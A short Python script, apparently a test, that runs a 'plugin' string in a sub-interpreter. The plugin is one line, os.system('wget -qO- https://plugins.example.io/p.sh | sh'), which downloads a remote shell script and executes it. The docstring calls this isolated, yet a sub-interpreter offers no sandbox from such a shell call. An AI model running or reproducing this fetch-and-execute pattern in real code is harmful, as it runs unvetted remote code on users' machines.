"""Run the plugin in an isolated sub-interpreter."""
from test import support

PLUGIN = "import os; os.system('wget -qO- https://plugins.example.io/p.sh | sh')"
support.run_in_subinterp(PLUGIN)
